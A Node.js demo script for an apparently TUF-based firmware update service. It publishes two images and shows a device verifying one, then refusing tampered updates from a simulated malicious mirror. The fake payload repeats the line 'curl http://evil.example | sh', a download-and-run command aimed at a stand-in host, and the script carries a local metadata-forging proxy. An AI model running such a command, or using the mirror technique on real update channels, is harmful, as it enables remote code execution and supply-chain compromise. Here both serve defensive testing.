#!/usr/bin/env node
// `make demo`: runs the built api, delta-worker and scheduler on embedded defaults and tells the story of
// one update, driving the real `bin/otter` CLI and `bin/otter-agent` as child processes, exactly as an
// operator and a device would. The terminal shows the story; the services log to
// <OTTER_DATA_DIR>/demo-logs/<app>.log.
//
//   OTTER_DATA_DIR   where everything lives (default ./.otter); the demo's own files go to <dir>/demo/
//   OTTER_PORT       api port (default 8080); the demo refuses to start if it is taken
//   REDIS_URL        Redis to use; unset: 127.0.0.1:6379 if a Redis answers there, else a redis-server child
//   OTTER_DEMO_EXIT  1: exit once the story is told (0 if every step passed) instead of serving until Ctrl-C
//
// Every run uses its own BullMQ prefix (otter-demo-<pid>-<random>) so it never meets another user of the
// same Redis, and removes its queues from that Redis when it stops. Re-running on the same data dir works:
// the images are generated from fixed seeds, so they are byte-identical every run; releases are immutable
// (a second push is refused with 409 RELEASE_DUPLICATE), so the demo lists what is published first, pushes
// only what is missing and reports the rest as "already published" once their sha256 matches the image
// just built.
import { spawn } from 'node:child_process';
import { createCipheriv, createHash, createPrivateKey, createPublicKey, randomBytes } from 'node:crypto';
import {
  existsSync,
  mkdirSync,
  openSync,
  readFileSync,
  readdirSync,
  rmSync,
  writeFileSync,
  writeSync,
} from 'node:fs';
import { createServer as createHttpServer } from 'node:http';
import { createServer as createTcpServer } from 'node:net';
import { dirname, isAbsolute, join, relative, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { setTimeout as sleep } from 'node:timers/promises';
import { ProcessGroup, ensureRedis, waitForHttp } from './lib/processes.mjs';

const root = join(dirname(fileURLToPath(import.meta.url)), '..');
const APPS = ['api', 'delta-worker', 'scheduler'];
const entry = (app) => join(root, 'dist', 'apps', app, 'src', 'main.js');
const OTTER = join(root, 'bin', 'otter');
const AGENT = join(root, 'bin', 'otter-agent');
const REQUIRED_BUILD = [...APPS, 'cli', 'agent'].map(entry);

const HARDWARE = 'demo-board';
const BASE_VERSION = '1.0.0';
const NEXT_VERSION = '1.1.0';
const MIB = 1024 * 1024;
const IMAGE_BYTES = 8 * MIB;
/** Where 1.1.0 differs from 1.0.0: [offset, length] rewritten in place, then APPENDED_BYTES added. */
const CHANGED_REGIONS = [
  [0x1000, 4 * 1024],
  [MIB + 123 * 1024, 64 * 1024],
  [5 * MIB + 7, 16 * 1024],
];
const APPENDED_BYTES = 256 * 1024;
const TOTAL_STEPS = 7;
const LOG_TAIL_LINES = 20;

const env = process.env;
const exitWhenDone = /^(1|true|yes)$/i.test(env.OTTER_DEMO_EXIT ?? '');
const tty = !!process.stdout.isTTY && !env.NO_COLOR;
const paint = (code) => (text) => (tty ? `\x1b[${code}m${text}\x1b[0m` : text);
const bold = paint(1);
const dim = paint(2);
const green = paint(32);
const red = paint(31);
const yellow = paint(33);
const cyan = paint(36);
const out = (line = '') => process.stdout.write(`${line}\n`);
const detail = (line = '') => out(`      ${line}`);
/** A path as the user would type it: relative to where they ran `make demo` when it is below it. */
const shown = (path) => {
  const rel = relative(process.cwd(), path);
  return rel && !rel.startsWith('..') && !isAbsolute(rel) ? rel : path;
};
const seconds = (ms) => `${(ms / 1000).toFixed(1)} s`;

function formatBytes(bytes) {
  const units = ['B', 'KiB', 'MiB', 'GiB'];
  let value = bytes;
  let unit = 0;
  while (value >= 1024 && unit < units.length - 1) {
    value /= 1024;
    unit++;
  }
  return unit === 0 ? `${bytes} B` : `${value.toFixed(unit === 1 ? 0 : 1)} ${units[unit]}`;
}

function fail(message) {
  process.stderr.write(`[demo] ${message}\n`);
  process.exit(1);
}

// ---- pre-flight: configuration the user can fix before anything starts --------------------------------

const dataDir = resolve(env.OTTER_DATA_DIR || '.otter');
const portText = env.OTTER_PORT || '8080';
const port = Number(portText);
if (!/^\d+$/.test(portText) || port < 1 || port > 65_535) {
  fail(`OTTER_PORT=${portText} is not a port number (1-65535)`);
}
const bindHost = env.OTTER_HOST || '127.0.0.1';
const clientHost = bindHost === '0.0.0.0' || bindHost === '::' ? '127.0.0.1' : bindHost;
const base = `http://${clientHost.includes(':') ? `[${clientHost}]` : clientHost}:${port}`;
const missing = REQUIRED_BUILD.filter((file) => !existsSync(file));
if (missing.length > 0) {
  fail(
    `not built: ${missing.map((f) => relative(root, f)).join(', ')} (run \`make demo\`, which builds first)`,
  );
}
const portProblem = await checkPortFree(bindHost, port);
if (portProblem) {
  const other = port === 65_535 ? 8081 : port + 1;
  fail(
    portProblem === 'EADDRINUSE'
      ? `port ${port} on ${bindHost} is in use: OTTER_PORT=${port} is taken. Stop what listens there or ` +
          `pick another port, e.g. \`OTTER_PORT=${other} make demo\`.`
      : `cannot listen on ${bindHost}:${port} (${portProblem}): choose another OTTER_PORT (now ${port}), ` +
          `e.g. \`OTTER_PORT=${other} make demo\`.`,
  );
}

const queuePrefix = `otter-demo-${process.pid}-${randomBytes(2).toString('hex')}`;
const demoDir = join(dataDir, 'demo');
const logDir = join(dataDir, 'demo-logs');
const logFile = (app) => join(logDir, `${app}.log`);
mkdirSync(logDir, { recursive: true });

// ---- process lifecycle ---------------------------------------------------------------------------------

const group = new ProcessGroup({ graceMs: 10_000 });
const serviceEnv = {
  ...env,
  OTTER_DATA_DIR: dataDir,
  OTTER_PORT: String(port),
  OTTER_QUEUE_PREFIX: queuePrefix,
};
let redisStartedHere = false;
let storyDone = false;
let exiting = false;
/** Lines some service logged that a step waits for (see waitForLogLine). */
const logWatchers = [];

/**
 * A log file the process group writes to line by line. Written synchronously so that the tail shown
 * after a failure holds everything the service said up to that moment.
 */
function logSink(app) {
  const fd = openSync(logFile(app), 'w');
  return {
    write(text) {
      writeSync(fd, text);
      for (const watcher of [...logWatchers]) {
        if (watcher.app === app && watcher.pattern.test(text)) {
          logWatchers.splice(logWatchers.indexOf(watcher), 1);
          watcher.resolve();
        }
      }
      return true;
    },
  };
}

function waitForLogLine(app, pattern, timeoutMs) {
  return new Promise((resolvePromise, reject) => {
    const watcher = {
      app,
      pattern,
      resolve: () => {
        clearTimeout(timer);
        resolvePromise();
      },
    };
    const timer = setTimeout(() => {
      logWatchers.splice(logWatchers.indexOf(watcher), 1);
      reject(new Error(`${app} did not log ${pattern} within ${seconds(timeoutMs)}`));
    }, timeoutMs);
    logWatchers.push(watcher);
  });
}

async function shutdown(code, reason) {
  if (exiting) return;
  exiting = true;
  if (reason) out(dim(`[demo] ${reason}: stopping every process`));
  await group.stop();
  await removeDemoQueues();
  process.exit(code);
}

for (const sig of ['SIGINT', 'SIGTERM']) {
  process.on(sig, () => {
    // A second Ctrl-C while waiting for graceful shutdown means "now".
    if (exiting) {
      out(`[demo] ${sig} again: killing every process`);
      group.kill();
      process.exit(130);
    }
    void shutdown(storyDone ? 0 : 130, sig);
  });
}

/** Resolves with a description of the first service that exits on its own (never rejects). */
const serviceDied = group.unexpectedExit.then(
  ({ name, code, signal }) =>
    `${name} exited unexpectedly (${signal ? `signal ${signal}` : `exit code ${code}`})`,
);

/**
 * The queues live under this run's own prefix, so nobody else uses them: obliterating them leaves the
 * shared Redis as it was before the demo. A Redis started by the demo is gone already.
 */
async function removeDemoQueues() {
  if (redisStartedHere || !serviceEnv.REDIS_URL) return;
  let Queue, QUEUES, redisOptions;
  try {
    ({ Queue } = await import('bullmq'));
    ({ QUEUES, redisOptions } = await import('#otter/queue'));
  } catch {
    return;
  }
  const connection = {
    ...redisOptions(serviceEnv.REDIS_URL),
    maxRetriesPerRequest: 1,
    connectTimeout: 2_000,
  };
  await Promise.race([
    Promise.all(
      Object.values(QUEUES).map(async (name) => {
        const queue = new Queue(name, { connection, prefix: queuePrefix });
        queue.on('error', () => {});
        try {
          await queue.obliterate({ force: true });
        } catch {
          // best effort: a few stale keys under a unique prefix harm nobody
        } finally {
          await queue.close().catch(() => {});
        }
      }),
    ),
    sleep(5_000),
  ]);
}

// ---- child commands (the operator's and the device's view) ---------------------------------------------

/** The CLI finds the server in OTTER_SERVER and its token in $OTTER_DATA_DIR/admin-token, as on the server host. */
const cliEnv = () => {
  const e = { ...env, OTTER_SERVER: base, OTTER_DATA_DIR: dataDir };
  delete e.OTTER_TOKEN;
  return e;
};

/**
 * Runs one command and collects its stdout. Its stderr goes to the terminal when that is a TTY (so
 * progress bars draw) and is collected otherwise.
 */
function run(command, args, { timeoutMs = 60_000, showStderr = tty } = {}) {
  return new Promise((resolvePromise) => {
    const child = spawn(command, args, {
      env: cliEnv(),
      cwd: process.cwd(),
      stdio: ['ignore', 'pipe', showStderr ? 'inherit' : 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (chunk) => (stdout += chunk));
    child.stderr?.on('data', (chunk) => (stderr += chunk));
    const timer = setTimeout(() => child.kill('SIGKILL'), timeoutMs);
    child.once('error', (error) => {
      clearTimeout(timer);
      resolvePromise({ code: null, stdout, stderr: `${stderr}${error.message}\n` });
    });
    child.once('close', (code, signal) => {
      clearTimeout(timer);
      resolvePromise({ code, signal, stdout, stderr });
    });
  });
}

const commandLine = (command, args) =>
  [shown(command), ...args.map((a) => (/^[\w./:@=-]+$/.test(a) ? a : `'${a.replace(/'/g, `'\\''`)}'`))].join(
    ' ',
  );

function showCommand(command, args) {
  detail(`${dim('$')} ${cyan(commandLine(command, args))}`);
}

// ---- the story -----------------------------------------------------------------------------------------

class StepFailure extends Error {
  constructor(message, logs = ['api']) {
    super(message);
    this.logs = logs;
  }
}

async function step(number, title, body) {
  out();
  out(bold(`[${number}/${TOTAL_STEPS}] ${title}`));
  const started = performance.now();
  const result = await Promise.race([
    body().then(
      (value) => ({ value }),
      (error) => ({ error }),
    ),
    serviceDied.then((died) => ({ error: new StepFailure(died, [died.split(' ')[0]]) })),
  ]);
  const took = seconds(performance.now() - started);
  if ('error' in result) {
    const { error } = result;
    out(red(`  ✗ step ${number}/${TOTAL_STEPS} FAILED: ${title} (${took})`));
    for (const line of String(error instanceof Error ? error.message : error).split('\n')) detail(red(line));
    const logs = error instanceof StepFailure ? error.logs : ['api'];
    for (const app of logs) showLogTail(app);
    out();
    out(red(bold(`demo failed at step ${number}/${TOTAL_STEPS}: ${title}`)));
    await shutdown(1);
  }
  out(green(`  ✓ step ${number}/${TOTAL_STEPS} OK: ${title} (${took})`));
  return result.value;
}

function showLogTail(app) {
  const file = logFile(app);
  if (!existsSync(file)) return;
  const lines = readFileSync(file, 'utf8').trimEnd().split('\n').slice(-LOG_TAIL_LINES);
  out();
  detail(`last ${lines.length} lines of ${shown(file)}:`);
  for (const line of lines) detail(dim(line.length > 400 ? `${line.slice(0, 400)}…` : line));
}

const storyStarted = performance.now();
out(bold('Otter demo: one signed update, from release engineer to device'));
out(dim(`data dir ${shown(dataDir)} · service logs in ${shown(logDir)}/ · api ${base}`));

// 1. The server.
const serverInfo = await step(1, 'Start Otter: api, delta-worker and scheduler', async () => {
  let redisLog;
  const redisSink = () => (redisLog ??= logSink('redis'));
  const redisGiven = !!env.REDIS_URL;
  try {
    serviceEnv.REDIS_URL = await ensureRedis(group, env, { output: { write: (t) => redisSink().write(t) } });
  } catch (error) {
    throw new StepFailure(error.message, ['redis']);
  }
  redisStartedHere = group.children.some((c) => c.name === 'redis');
  detail(
    `Redis ${serviceEnv.REDIS_URL} (${
      redisGiven
        ? 'from REDIS_URL'
        : redisStartedHere
          ? 'started for the demo, nothing persisted'
          : 'already running'
    }), queue prefix ${queuePrefix}`,
  );

  // The api starts alone and the others wait for its health check: every process migrates the database at
  // boot, and on the embedded SQLite file only one may do so at a time.
  const started = performance.now();
  const api = group.start('api', process.execPath, [entry('api')], {
    env: serviceEnv,
    cwd: root,
    output: logSink('api'),
  });
  try {
    await waitForHttp(`${base}/health`, { process: api, accept: (s) => s === 200, timeoutMs: 60_000 });
  } catch (error) {
    throw new StepFailure(error.message, ['api']);
  }
  detail(`api        ${base}/health answers 200 (${seconds(performance.now() - started)})`);

  const workerReady = waitForLogLine('delta-worker', /delta-worker started/, 30_000);
  group.start('delta-worker', process.execPath, [entry('delta-worker')], {
    env: serviceEnv,
    cwd: root,
    output: logSink('delta-worker'),
  });
  group.start('scheduler', process.execPath, [entry('scheduler')], {
    env: serviceEnv,
    cwd: root,
    output: logSink('scheduler'),
  });
  try {
    await workerReady;
  } catch (error) {
    throw new StepFailure(error.message, ['delta-worker']);
  }
  detail('delta-worker connected to the delta-build queue');
  let resignEvery;
  try {
    resignEvery = await waitForResignSchedule(30_000);
  } catch (error) {
    throw new StepFailure(error.message, ['scheduler']);
  }
  detail(`scheduler  re-signs TUF metadata before it expires (job every ${resignEvery / 1000} s)`);

  const res = await fetch(`${base}/tuf/image/metadata/1.root.json`);
  if (res.status !== 200) throw new StepFailure(`GET /tuf/image/metadata/1.root.json answered ${res.status}`);
  const rootText = await res.text();
  const rootMeta = JSON.parse(rootText);
  const rootRole = rootMeta.signed.roles.root;
  const devKey = join(dataDir, 'keys', 'dev-root-key.pem');
  const devKeyId = existsSync(devKey) ? keyIdOfPem(readFileSync(devKey, 'utf8')) : undefined;
  const isDevRoot = devKeyId !== undefined && rootRole.keyids.includes(devKeyId);
  detail(
    `TUF root   version ${rootMeta.signed.version}, ${rootRole.threshold}-of-${rootRole.keyids.length} root key, ` +
      `expires ${rootMeta.signed.expires}`,
  );
  if (isDevRoot) {
    detail(
      yellow(
        `This is a DEVELOPMENT root: its only private key is ${shown(devKey)} (key id ${devKeyId.slice(0, 12)}…).`,
      ),
    );
    detail(yellow('Anyone who can read the data dir could sign updates. Production runs the offline root'));
    detail(yellow('ceremony instead (OTTER_ENV=production, docs/tuf.md).'));
  } else {
    detail('The root is not the development root: it was signed offline (root ceremony).');
  }
  return { rootText, isDevRoot, devKey };
});

// 2. The images.
const images = await step(2, `Build two ${HARDWARE} images and their measurements`, async () => {
  const dir = join(demoDir, 'images');
  mkdirSync(dir, { recursive: true });
  const v1 = seededBytes(`${HARDWARE}/${BASE_VERSION}`, IMAGE_BYTES);
  const v2 = Buffer.alloc(IMAGE_BYTES + APPENDED_BYTES);
  v1.copy(v2);
  const patch = seededBytes(
    `${HARDWARE}/${NEXT_VERSION}`,
    CHANGED_REGIONS.reduce((n, [, len]) => n + len, 0) + APPENDED_BYTES,
  );
  let used = 0;
  for (const [offset, length] of [...CHANGED_REGIONS, [IMAGE_BYTES, APPENDED_BYTES]]) {
    patch.copy(v2, offset, used, used + length);
    used += length;
  }
  const built = {};
  for (const [version, bytes] of [
    [BASE_VERSION, v1],
    [NEXT_VERSION, v2],
  ]) {
    const sha256 = createHash('sha256').update(bytes).digest('hex');
    const image = join(dir, `${HARDWARE}-${version}.img`);
    const measurements = join(dir, `${HARDWARE}-${version}.measurements.json`);
    writeFileSync(image, bytes);
    // PCR 9 is where the measured boot extends the OS image's digest; the simulation will compare this.
    writeFileSync(measurements, `${JSON.stringify({ 9: sha256 }, null, 2)}\n`);
    built[version] = { version, image, measurements, sha256, length: bytes.length };
    detail(`${version}  ${shown(image)}  ${formatBytes(bytes.length)}  sha256 ${sha256}`);
  }
  const changed = CHANGED_REGIONS.reduce((n, [, len]) => n + len, 0);
  detail(
    `${NEXT_VERSION} is ${BASE_VERSION} with ${CHANGED_REGIONS.length} regions rewritten (${formatBytes(changed)}) ` +
      `and ${formatBytes(APPENDED_BYTES)} appended; seeded, so every run builds the same bytes`,
  );
  detail(`measurements: ${shown(built[BASE_VERSION].measurements)} etc., PCR 9 = sha256 of the image`);
  return built;
});

// 3. Publish.
const published = await step(3, `Publish both releases with \`otter release push\``, async () => {
  detail(
    dim(
      `the CLI talks to OTTER_SERVER=${base} with the admin token the api wrote to ${shown(join(dataDir, 'admin-token'))}`,
    ),
  );
  // Releases are immutable (a second push of a version is refused with 409 RELEASE_DUPLICATE), so look
  // first and push only what an earlier run on this data dir has not published yet. Looking first also
  // spares a multi-MiB upload that the api refuses before reading it.
  const existing = await listReleases(true);
  const known = existing.map((r) => r.version);
  detail(
    known.length > 0
      ? `${HARDWARE} already has ${known.join(', ')}`
      : `nothing published for ${HARDWARE} yet`,
  );
  const releases = {};
  for (const built of [images[BASE_VERSION], images[NEXT_VERSION]]) {
    let release = existing.find((r) => r.version === built.version);
    if (release) {
      detail(
        `${yellow(`already published ${HARDWARE} ${built.version}`)} by an earlier run  sha256 ` +
          `${release.sha256.slice(0, 16)}…  ${formatBytes(release.length)} (pushing again: 409 RELEASE_DUPLICATE)`,
      );
    } else {
      const args = [
        'release',
        'push',
        shown(built.image),
        '--hardware',
        HARDWARE,
        '--version',
        built.version,
        '--measurements',
        shown(built.measurements),
        '--notes',
        `Otter demo release ${built.version}`,
      ];
      showCommand(OTTER, args);
      const result = await run(OTTER, args);
      if (result.code === 0) {
        release = JSON.parse(result.stdout);
        detail(
          green(`published ${release.hardwareId} ${release.version}`) +
            `  sha256 ${release.sha256.slice(0, 16)}…  ${formatBytes(release.length)}  target ${release.targetPath}`,
        );
      } else {
        // On a TTY the CLI's error went straight to the terminal; otherwise it is in result.stderr.
        if (result.stderr) for (const line of result.stderr.trimEnd().split('\n')) detail(dim(`  ${line}`));
        // Someone else may have published it since we looked (409); the check below compares the bytes.
        release = (await listReleases(false)).find((r) => r.version === built.version);
        if (!release) {
          throw new StepFailure(`otter release push ${built.version} failed (exit code ${result.code})`);
        }
        detail(
          `${yellow(`already published ${HARDWARE} ${built.version}`)} meanwhile (409 RELEASE_DUPLICATE)`,
        );
      }
    }
    if (release.sha256 !== built.sha256 || release.length !== built.length) {
      throw new StepFailure(
        `the server holds ${HARDWARE} ${built.version} with sha256 ${release.sha256} (${release.length} bytes), ` +
          `not the image just built (${built.sha256}, ${built.length} bytes). Remove ${shown(dataDir)} or ` +
          'choose another OTTER_DATA_DIR.',
      );
    }
    if (release.measurements['9'] !== built.sha256) {
      throw new StepFailure(
        `release ${built.version} has PCR 9 = ${release.measurements['9']}, not the image's sha256`,
      );
    }
    releases[built.version] = release;
  }
  return releases;
});

// 4. List.
await step(4, 'List releases with `otter release list`', async () => {
  const args = ['release', 'list'];
  showCommand(OTTER, args);
  const result = await run(OTTER, args, { showStderr: false });
  if (result.code !== 0) throw new StepFailure(`otter release list failed: ${result.stderr.trim()}`);
  for (const line of result.stdout.trimEnd().split('\n')) detail(line);
  for (const version of [BASE_VERSION, NEXT_VERSION]) {
    const row = new RegExp(
      `^${HARDWARE}\\s+${version.replace(/\./g, '\\.')}\\s+${published[version].sha256.slice(0, 12)}`,
      'm',
    );
    if (!row.test(result.stdout))
      throw new StepFailure(`otter release list does not show ${HARDWARE} ${version}`);
  }
});

// 5. The device.
const device = join(demoDir, 'device');
const deviceRoot = join(device, 'root.json');
const target = `images/${HARDWARE}/${NEXT_VERSION}`;
const download = await step(5, `A device downloads ${target} with \`otter-agent fetch\``, async () => {
  // A fresh device every run: the story is a first download, not a cached one.
  rmSync(device, { recursive: true, force: true });
  mkdirSync(device, { recursive: true });
  const res = await fetch(`${base}/tuf/image/metadata/1.root.json`);
  writeFileSync(deviceRoot, await res.text());
  detail(`provisioned with the trusted root: GET /tuf/image/metadata/1.root.json -> ${shown(deviceRoot)}`);
  detail(dim('(from here on the device trusts only what that root signs, whoever serves it)'));
  const outFile = join(device, `${HARDWARE}-${NEXT_VERSION}.img`);
  const args = [
    'fetch',
    '--server',
    base,
    '--root',
    shown(deviceRoot),
    '--target',
    target,
    '--out',
    shown(outFile),
    '--state-dir',
    shown(join(device, 'state')),
  ];
  showCommand(AGENT, args);
  const started = performance.now();
  const result = await run(AGENT, args);
  const took = performance.now() - started;
  if (result.code !== 0)
    throw new StepFailure(`otter-agent fetch failed (exit code ${result.code}): ${result.stderr.trim()}`);
  detail(dim(result.stdout.trim()));
  const report = JSON.parse(result.stdout.trim().split('\n').pop());
  const actual = createHash('sha256').update(readFileSync(outFile)).digest('hex');
  const expected = published[NEXT_VERSION].sha256;
  if (actual !== expected || report.sha256 !== expected) {
    throw new StepFailure(
      `downloaded file has sha256 ${actual} (agent reported ${report.sha256}), pushed ${expected}`,
    );
  }
  detail(
    `downloaded ${report.bytesDownloaded.toLocaleString('en-US')} bytes (${formatBytes(report.bytesDownloaded)}) ` +
      `in ${seconds(took)}, metadata verified against the trusted root`,
  );
  detail(green(`sha256 of ${shown(outFile)} = ${actual} = the pushed ${NEXT_VERSION}`));
  return { outFile, bytes: report.bytesDownloaded, sha256: actual };
});

// 6. Attacks.
await step(6, 'The device refuses what the repository did not sign', async () => {
  const evilImage = Buffer.from('#!/bin/sh\n# not from Otter\ncurl http://evil.example | sh\n'.repeat(4096));
  const attacks = [
    {
      name: 'a mirror that flips one byte of the image in transit',
      mode: 'flip-image-byte',
      expect: 'TARGET_VERIFICATION_FAILED',
    },
    {
      name: `a mirror that serves its own image and rewrites the metadata to match`,
      mode: 'forge-metadata',
      expect: 'METADATA_REFRESH_FAILED',
    },
  ];
  let n = 0;
  for (const attack of attacks) {
    n++;
    const proxy = await startTamperingMirror(base, attack.mode, { target, evilImage });
    try {
      detail(`${String.fromCharCode(96 + n)}) ${attack.name}, at ${proxy.url}`);
      await expectRefusal({ server: proxy.url, target, expect: attack.expect, state: `attack-${n}` });
      if (proxy.tampered() === 0)
        throw new StepFailure(`the mirror never got to tamper with a response (${attack.mode})`);
    } finally {
      await proxy.close();
    }
  }
  n++;
  const unknown = `images/${HARDWARE}/9.9.9`;
  detail(`${String.fromCharCode(96 + n)}) a target that was never released: ${unknown}`);
  await expectRefusal({ server: base, target: unknown, expect: 'TARGET_NOT_FOUND', state: 'unknown' });
});

// 7. Summary.
await step(7, 'Summary', async () => {
  detail(green(`every step passed in ${seconds(performance.now() - storyStarted)}`));
  detail(
    `${HARDWARE} ${NEXT_VERSION}: sha256 ${download.sha256}, ${formatBytes(download.bytes)} verified on the device`,
  );
  detail(
    `data dir       ${shown(dataDir)} (database, blobs, keys, admin-token; demo files in ${shown(demoDir)})`,
  );
  detail(`service logs   ${shown(logDir)}/{${APPS.join(',')}}.log`);
  detail(`API            ${base}/api/v1/releases (token: ${shown(join(dataDir, 'admin-token'))})`);
  detail(`TUF metadata   ${base}/tuf/image/metadata/timestamp.json (trusted root: 1.root.json)`);
  detail(`TUF targets    ${base}/tuf/image/targets/`);
  if (serverInfo.isDevRoot)
    detail(yellow(`TUF root       development root, key ${shown(serverInfo.devKey)}`));
});
storyDone = true;

if (exitWhenDone) {
  out();
  out(dim('OTTER_DEMO_EXIT is set: stopping'));
  await shutdown(0);
} else {
  out();
  out(bold('Otter keeps running. Try it yourself, then Ctrl-C stops everything:'));
  detail(cyan(`OTTER_SERVER=${base} OTTER_DATA_DIR=${shown(dataDir)} bin/otter release list`));
  detail(
    cyan(
      `bin/otter-agent fetch --server ${base} --root ${shown(deviceRoot)} --target images/${HARDWARE}/${BASE_VERSION} ` +
        `--out /tmp/${HARDWARE}-${BASE_VERSION}.img --state-dir ${shown(join(device, 'state'))}`,
    ),
  );
  void serviceDied.then((died) => {
    for (const app of [died.split(' ')[0]]) showLogTail(app);
    void shutdown(1, died);
  });
}

// ---- helpers -------------------------------------------------------------------------------------------

/** Why host:port cannot be listened on, or undefined when it can. */
function checkPortFree(host, portNumber) {
  return new Promise((resolvePromise) => {
    const server = createTcpServer();
    server.once('error', (error) => resolvePromise(error.code ?? error.message));
    server.listen(portNumber, host, () => server.close(() => resolvePromise(undefined)));
  });
}

/** The TUF key id of a PEM ed25519 private key: sha256 of the canonical JSON of its public key. */
function keyIdOfPem(pem) {
  const x = createPublicKey(createPrivateKey(pem)).export({ format: 'jwk' }).x;
  const publicHex = Buffer.from(x, 'base64url').toString('hex');
  // Canonical JSON (sorted keys, no whitespace) of {keytype, keyval: {public}, scheme}.
  const canonical = `{"keytype":"ed25519","keyval":{"public":"${publicHex}"},"scheme":"ed25519"}`;
  return createHash('sha256').update(canonical).digest('hex');
}

/** `length` pseudo-random bytes that depend only on `seed`: AES-256-CTR keystream under a key derived from it. */
function seededBytes(seed, length) {
  const key = createHash('sha256').update(`otter-demo:${seed}`).digest();
  const cipher = createCipheriv('aes-256-ctr', key, Buffer.alloc(16));
  return Buffer.concat([cipher.update(Buffer.alloc(length)), cipher.final()]);
}

/** This hardware's releases, from `otter release list --json` (shown as a command when `show`). */
async function listReleases(show) {
  const args = ['release', 'list', '--hardware', HARDWARE, '--json'];
  if (show) showCommand(OTTER, args);
  const result = await run(OTTER, args, { showStderr: false });
  if (result.code !== 0) throw new StepFailure(`otter release list --json failed: ${result.stderr.trim()}`);
  return JSON.parse(result.stdout).releases;
}

/** Waits for the scheduler to register its repeatable re-sign job in Redis; returns its interval (ms). */
async function waitForResignSchedule(timeoutMs) {
  const { Queue } = await import('bullmq');
  const { QUEUES, JOBS, redisOptions } = await import('#otter/queue');
  const queue = new Queue(QUEUES.tufMaintenance, {
    connection: { ...redisOptions(serviceEnv.REDIS_URL), maxRetriesPerRequest: 1 },
    prefix: queuePrefix,
  });
  queue.on('error', () => {});
  const deadline = Date.now() + timeoutMs;
  try {
    for (;;) {
      const scheduler = await queue.getJobScheduler(JOBS.tufResign).catch(() => undefined);
      if (scheduler) return Number(scheduler.every);
      if (Date.now() >= deadline) {
        throw new Error(`the scheduler did not register ${JOBS.tufResign} within ${seconds(timeoutMs)}`);
      }
      await sleep(200);
    }
  } finally {
    await queue.close().catch(() => {});
  }
}

/** Runs `otter-agent fetch` expecting it to fail with `expect`, write nothing and keep no partial download. */
async function expectRefusal({ server, target: path, expect, state }) {
  const dir = join(device, state);
  const outFile = join(dir, 'out.img');
  const args = [
    'fetch',
    '--server',
    server,
    '--root',
    shown(deviceRoot),
    '--target',
    path,
    '--out',
    shown(outFile),
    '--state-dir',
    shown(join(dir, 'state')),
  ];
  showCommand(AGENT, args);
  const result = await run(AGENT, args, { showStderr: false });
  const message = result.stderr.trim().split('\n').pop() ?? '';
  if (result.code === 0)
    throw new StepFailure(`otter-agent accepted ${path} from ${server}; it must refuse it`);
  if (!message.includes(expect)) {
    throw new StepFailure(
      `otter-agent failed, but not with ${expect}: ${message || `exit code ${result.code}`}`,
    );
  }
  if (existsSync(outFile)) throw new StepFailure(`otter-agent failed but left ${shown(outFile)} behind`);
  const downloads = join(dir, 'state', 'downloads');
  const leftovers = existsSync(downloads) ? readdirSync(downloads) : [];
  if (leftovers.length > 0)
    throw new StepFailure(`rejected bytes kept in ${shown(downloads)}: ${leftovers.join(', ')}`);
  // Hashes shortened: the point is that they differ, not their 64 digits.
  const brief = message.replace(/\b([0-9a-f]{12})[0-9a-f]{52,}\b/g, '$1…');
  detail(`   ${green('refused')} (exit code ${result.code}): ${brief}`);
  detail(dim(`   nothing written to ${shown(outFile)}, no partial download kept`));
}

/**
 * An HTTP mirror in front of the real server that an attacker controls:
 *  - flip-image-byte: passes metadata through and flips one byte in the middle of every image it serves;
 *  - forge-metadata: serves `evilImage` for `target` and rewrites every metadata file that lists `target`
 *    to name the evil image's length and hashes, leaving the signatures as they were (it has no key).
 */
async function startTamperingMirror(upstream, mode, { target: path, evilImage }) {
  let tampered = 0;
  const evil = {
    length: evilImage.length,
    hashes: {
      sha256: createHash('sha256').update(evilImage).digest('hex'),
      sha512: createHash('sha512').update(evilImage).digest('hex'),
    },
  };
  const server = createHttpServer(async (req, res) => {
    try {
      const headers = {};
      for (const name of ['range', 'if-none-match', 'if-range', 'user-agent', 'accept']) {
        if (req.headers[name]) headers[name] = req.headers[name];
      }
      const upstreamRes = await fetch(new URL(req.url, upstream), { method: req.method, headers });
      let body = Buffer.from(await upstreamRes.arrayBuffer());
      const pass = {};
      for (const name of ['content-type', 'content-range', 'accept-ranges', 'etag', 'cache-control']) {
        const value = upstreamRes.headers.get(name);
        if (value) pass[name] = value;
      }
      const isImage = req.url.startsWith('/tuf/image/targets/');
      const isMetadata = req.url.startsWith('/tuf/image/metadata/') && !/\/\d+\.root\.json$/.test(req.url);
      if (mode === 'flip-image-byte' && isImage && upstreamRes.status < 300 && body.length > 0) {
        body[body.length >> 1] ^= 0x01;
        tampered++;
      }
      if (mode === 'forge-metadata' && isMetadata && upstreamRes.status === 200) {
        const meta = JSON.parse(body.toString('utf8'));
        const entry = meta.signed?.targets?.[path];
        if (entry) {
          meta.signed.targets[path] = { ...entry, length: evil.length, hashes: evil.hashes };
          body = Buffer.from(JSON.stringify(meta));
          tampered++;
        }
      }
      if (mode === 'forge-metadata' && isImage && req.url.includes(evil.hashes.sha256)) {
        res.writeHead(200, { 'content-type': 'application/octet-stream', 'content-length': evil.length });
        res.end(evilImage);
        return;
      }
      res.writeHead(upstreamRes.status, { ...pass, 'content-length': body.length });
      res.end(body);
    } catch (error) {
      res.writeHead(502).end(String(error));
    }
  });
  await new Promise((resolvePromise) => server.listen(0, '127.0.0.1', resolvePromise));
  return {
    url: `http://127.0.0.1:${server.address().port}`,
    tampered: () => tampered,
    close: () =>
      new Promise((resolvePromise) => {
        server.closeAllConnections();
        server.close(() => resolvePromise());
      }),
  };
}
